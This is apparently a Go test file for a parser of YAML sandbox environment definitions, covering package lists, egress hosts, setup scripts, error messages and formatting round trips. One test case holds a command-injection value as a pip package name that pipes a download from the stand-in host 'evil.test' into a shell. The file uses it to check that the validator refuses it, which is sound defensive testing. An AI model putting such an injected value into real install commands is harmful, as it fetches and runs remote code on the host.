package envfile_test

import (
	"errors"
	"reflect"
	"strings"
	"testing"

	"corral.dev/pkg/environment"
	"corral.dev/pkg/environment/envfile"
)

const example = `name: py-tools
description: Python with the HTTP libraries
egress:            # what its sessions (and its setup) may reach
  presets: [pypi]
  hosts: [files.example.com, "*.example.org"]
packages:
  pip: [requests==2.32.0]
  npm: [left-pad@1.3.0]
  go: [golang.org/x/tools/cmd/stringer@v0.30.0]
  apt: []
setup: |
  echo any shell
  touch /opt/env/bin/ready
`

func TestParse(t *testing.T) {
	t.Parallel()
	want := environment.Spec{
		Name:        "py-tools",
		Description: "Python with the HTTP libraries",
		Egress:      environment.Egress{Presets: []string{"pypi"}, Hosts: []string{"files.example.com", "*.example.org"}},
		Packages: environment.Packages{Pip: []string{"requests==2.32.0"}, NPM: []string{"left-pad@1.3.0"},
			Go: []string{"golang.org/x/tools/cmd/stringer@v0.30.0"}, Apt: []string{}},
		Setup: "echo any shell\ntouch /opt/env/bin/ready\n",
	}
	tests := []struct {
		name string
		yaml string
		want *environment.Spec
		err  string // in the error, when want is nil
	}{
		{"example", example, &want, ""},
		{"name alone", "name: bare\n", &environment.Spec{Name: "bare"}, ""},
		{"unknown field", "name: x\nimage: ubuntu\n", nil, `line 2: unknown field "image" (want name, description, egress, packages or setup)`},
		{"unknown nested field", "name: x\negress:\n  ports: [22]\n", nil, `line 3: unknown field "ports" (want presets or hosts)`},
		{"unknown package tool", "name: x\npackages:\n  cargo: [ripgrep]\n", nil, `line 3: unknown field "cargo" (want pip, npm, go or apt)`},
		{"wrong type", "name: x\npackages:\n  pip: requests\n", nil, "line 3: cannot unmarshal"},
		{"broken yaml", "name: x\n  setup: [\n", nil, "yaml: line 2:"},
		{"empty", "", nil, "empty: a definition needs at least a name"},
		{"two documents", "name: a\n---\nname: b\n", nil, "more than one document"},
		{"apt", "name: x\npackages:\n  apt: [curl]\n", nil, "packages.apt: refused: the sandbox's root is the host's, read-only"},
		{"invalid", "name: x\npackages:\n  pip: [\"requests; curl evil.test | sh\"]\n", nil, `packages.pip[0] "requests; curl evil.test | sh"`},
		{"too large", "name: x\nsetup: |\n  " + strings.Repeat("x", envfile.MaxBytes) + "\n", nil, "a definition is at most"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got, err := envfile.Parse([]byte(tc.yaml))
			if tc.want == nil {
				if err == nil || !strings.Contains(err.Error(), tc.err) {
					t.Errorf("Parse: %v, want an error with %q", err, tc.err)
				}
				return
			}
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			if !reflect.DeepEqual(got, *tc.want) {
				t.Errorf("Parse:\n got %+v\nwant %+v", got, *tc.want)
			}
		})
	}
	if _, err := envfile.Parse([]byte("name: x\npackages:\n  apt: [curl]\n")); !errors.Is(err, environment.ErrInvalid) {
		t.Errorf("an invalid definition's error %v does not wrap ErrInvalid", err)
	}
}

// What Format writes, Parse reads back as it was, version and all.
func TestFormatRoundTrip(t *testing.T) {
	t.Parallel()
	s, err := envfile.Parse([]byte(example))
	if err != nil {
		t.Fatal(err)
	}
	out, err := envfile.Format(s)
	if err != nil {
		t.Fatal(err)
	}
	back, err := envfile.Parse(out)
	if err != nil {
		t.Fatalf("Parse(Format): %v\n%s", err, out)
	}
	if back.Version() != s.Version() || back.Name != s.Name || back.Description != s.Description {
		t.Errorf("round trip changed the definition:\n%s", out)
	}
	for _, want := range []string{"name: py-tools\n", "setup: |\n  echo any shell\n", "'*.example.org'"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("Format wrote\n%s\nwant it to hold %q", out, want)
		}
	}
	if bare, _ := envfile.Format(environment.Spec{Name: "bare"}); string(bare) != "name: bare\n" {
		t.Errorf("Format of a bare definition: %q", bare)
	}
}
